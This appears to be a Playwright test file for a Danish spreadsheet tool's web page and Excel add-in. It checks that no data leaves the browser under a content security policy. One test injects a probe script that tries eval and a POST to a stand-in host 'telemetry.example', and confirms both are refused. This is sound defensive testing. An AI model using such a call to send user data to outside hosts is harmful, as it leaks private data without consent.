import { readFileSync } from 'node:fs';
import type { BrowserContext, Page } from 'playwright-core';
import { XlsxWorkbook } from '../../src/adapters/xlsx/xlsx-workbook';
import { chromiumAvailable } from '../helpers/chromium';
import { builtPagesInChromium } from '../helpers/built-pages';
import { buildOfficeStub } from '../helpers/office-stub';
import { EXAMPLE_SCHEME, EXAMPLE_WORKBOOK } from '../helpers/paths';
import { seedFromWorkbook } from '../helpers/seed';
import { OFFICE_JS, policy } from './policy';

const describeWithChromium = chromiumAvailable() ? describe : describe.skip;

/** What a page did while the test drove it: every request it made, and everything the policy refused. */
interface Recorded {
  page: Page;
  /** Every request the page asked for, including any the policy then refused. */
  requests: string[];
  /** Requests for anything but the site's files and Office.js that got past the browser to the network. */
  leftTheBrowser: string[];
  violations: () => Promise<string[]>;
  errors: string[];
}

/**
 * Opens a page of dist/ as IT serves it, with the install guide's headers on every file and the policy's
 * meta tag in the page, and records every request and every violation of the policy.
 */
async function openUnderPolicy(context: BrowserContext, origin: string, path: string): Promise<Recorded> {
  const leftTheBrowser: string[] = [];
  // Nothing here goes out to a real network: whatever gets this far is recorded and stopped.
  await context.route('**', async (route) => {
    if (route.request().url() === OFFICE_JS) return route.fallback();
    leftTheBrowser.push(route.request().url());
    return route.abort();
  });
  await context.route(`${origin}**`, async (route) => {
    const response = await route.fetch();
    const file = new URL(route.request().url()).pathname.replace(/^\//, '') || 'index.html';
    await route.fulfill({ response, headers: { ...response.headers(), ...policy.headersFor(file) } });
  });
  await context.addInitScript(() => {
    const seen: string[] = [];
    Object.assign(window, { __violations: seen });
    document.addEventListener('securitypolicyviolation', (event) => seen.push(`${event.violatedDirective} ${event.blockedURI}`), true);
  });
  const requests: string[] = [];
  const errors: string[] = [];
  context.on('request', (request) => requests.push(request.url()));
  const page = await context.newPage();
  page.on('pageerror', (error) => errors.push(error.message));
  page.on('console', (message) => {
    if (message.type() === 'error' || /Content Security Policy/i.test(message.text())) errors.push(message.text());
  });
  await page.goto(`${origin}${path}`);
  return { page, requests, leftTheBrowser, errors, violations: () => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations) };
}

/** The requests that went anywhere but the page's own site and Office.js on Microsoft's CDN. */
function elsewhere(requests: readonly string[], origin: string): string[] {
  // A download is made in the page as a blob: of the page's own origin; it never travels.
  return requests.filter((url) => !url.startsWith(origin) && url !== OFFICE_JS && !url.startsWith(`blob:${origin.replace(/\/$/, '')}/`));
}

/** Validation, one-click fixes, compute and Bilag 1, and copying it: the steps both pages share. */
async function validateFixComputeAndCopy(page: Page): Promise<void> {
  await page.getByRole('heading', { name: '2. Validering' }).waitFor();
  await page.getByRole('button', { name: 'Tal skrevet som tekst (3)' }).click();
  await page.getByRole('button', { name: 'Ret alle 3' }).click();
  await page.getByTestId('counts').filter({ hasText: '0 fejl, 0 advarsler' }).waitFor();
  await page.getByRole('button', { name: 'Beregn effekt og afvigelse, og lav Bilag 1' }).click();
  await page.getByRole('heading', { name: '4. Bilag 1' }).waitFor();
  await page.evaluate(() => window.addEventListener('copy', (event) => Object.assign(window, { __copied: event.clipboardData?.getData('text/html') })));
  await page.getByRole('button', { name: 'Kopiér Bilag 1' }).click();
  await expect(page.evaluate(() => (window as unknown as { __copied?: string }).__copied)).resolves.toContain('<table');
}

describeWithChromium('no data leaves the workbook: every request the pages make, under the content security policy', () => {
  const pages = builtPagesInChromium();


  it('the browser page opens, validates, fixes, computes, makes Bilag 1, copies and downloads, fetching only its own files', async () => {
    const context = await pages.browser.newContext({ acceptDownloads: true });
    const run = await openUnderPolicy(context, pages.url, '');
    const { page } = run;
    await page.getByTestId('scheme-input').setInputFiles(EXAMPLE_SCHEME);
    await page.getByTestId('workbook-input').setInputFiles(EXAMPLE_WORKBOOK);
    await validateFixComputeAndCopy(page);
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Hent projektmappen med Bilag 1' }).click()]);
    expect(readFileSync(await download.path()).subarray(0, 2).toString()).toBe('PK');

    expect(elsewhere(run.requests, pages.url)).toEqual([]);
    expect(run.leftTheBrowser).toEqual([]);
    expect(run.requests.filter((url) => url.endsWith('.js')).length).toBeGreaterThan(1);
    // The file is worked on in the page's worker, whose script also comes from the site, under the policy.
    expect(run.requests.filter((url) => /\/file-worker\.[0-9a-f]{8}\.js$/.test(url))).toHaveLength(1);
    await expect(run.violations()).resolves.toEqual([]);
    expect(run.errors).toEqual([]);
    await context.close();
  });

  it('the Excel pane opens, validates, fixes, computes, makes Bilag 1, copies and undoes, asking only for its own files and Office.js', async () => {
    const [stub, seed] = await Promise.all([buildOfficeStub(), XlsxWorkbook.fromBuffer(readFileSync(EXAMPLE_WORKBOOK)).then(seedFromWorkbook)]);
    const context = await pages.browser.newContext({ viewport: { width: 420, height: 1100 } });
    await context.addInitScript((data) => Object.assign(window, { __HANDLEPLAN_SEED__: data }), { sheets: seed });
    // Office.js comes from Microsoft's CDN; the request is made and recorded, and the fake Excel answers it.
    await context.route(`${policy.OFFICE_CDN}/**`, (route) => route.fulfill({ body: stub, contentType: 'text/javascript' }));
    const run = await openUnderPolicy(context, pages.url, 'taskpane.html');
    const { page } = run;
    await page.getByTestId('scheme-input').setInputFiles(EXAMPLE_SCHEME);
    await validateFixComputeAndCopy(page);
    await page.getByRole('button', { name: 'Fortryd seneste skrivning' }).click();
    await page.getByTestId('status-beregn').getByText('Seneste skrivning er fortrudt.').waitFor();

    expect(elsewhere(run.requests, pages.url)).toEqual([]);
    expect(run.leftTheBrowser).toEqual([]);
    expect(run.requests).toContain(OFFICE_JS);
    expect(run.requests.filter((url) => /\/core-worker\.[0-9a-f]{8}\.js$/.test(url))).toHaveLength(1);
    await expect(run.violations()).resolves.toEqual([]);
    expect(run.errors).toEqual([]);
    await context.close();
  });

  it('the ribbon’s function file and the help page load under the policy without a violation', async () => {
    const stub = await buildOfficeStub();
    for (const path of ['commands.html', 'help.html']) {
      const context = await pages.browser.newContext();
      await context.addInitScript(() => Object.assign(window, { __HANDLEPLAN_SEED__: { sheets: [] } }));
      await context.route(`${policy.OFFICE_CDN}/**`, (route) => route.fulfill({ body: stub, contentType: 'text/javascript' }));
      const run = await openUnderPolicy(context, pages.url, path);
      await run.page.waitForLoadState('load');
      expect({ path, elsewhere: elsewhere(run.requests, pages.url), violations: await run.violations(), errors: run.errors }).toEqual({ path, elsewhere: [], violations: [], errors: [] });
      await context.close();
    }
  });

  it('the policy is enforced: eval, a connection and a script elsewhere are refused and reported, and nothing is sent', async () => {
    const context = await pages.browser.newContext();
    const run = await openUnderPolicy(context, pages.url, 'help.html');
    // A script of the site's own, as a bundled library would run: what it tries must be refused.
    await context.route(`${pages.url}probe.js`, (route) =>
      route.fulfill({
        contentType: 'text/javascript',
        body: `window.__probe = (async () => {
          let evaluated = 'ran';
          try { new Function('return 1')(); } catch { evaluated = 'refused'; }
          const fetched = await fetch('https://telemetry.example/collect', { method: 'POST', body: 'x' }).then(() => 'sent', () => 'refused');
          return { evaluated, fetched };
        })();`,
      }),
    );
    const outcome = await run.page.evaluate(async () => {
      for (const src of ['probe.js', 'https://cdn.example/library.js']) document.head.append(Object.assign(document.createElement('script'), { src }));
      while ((window as unknown as { __probe?: unknown }).__probe === undefined) await new Promise((done) => setTimeout(done, 10));
      return (window as unknown as { __probe: Promise<unknown> }).__probe;
    });
    expect(outcome).toEqual({ evaluated: 'refused', fetched: 'refused' });
    await expect(run.violations()).resolves.toEqual(
      expect.arrayContaining(['script-src eval', 'connect-src https://telemetry.example/collect', 'script-src-elem https://cdn.example/library.js']),
    );
    // The script elsewhere was asked for, and refused before it reached the network; nothing was sent.
    expect(elsewhere(run.requests, pages.url)).toEqual(['https://cdn.example/library.js']);
    expect(run.leftTheBrowser).toEqual([]);
    await context.close();
  });
});
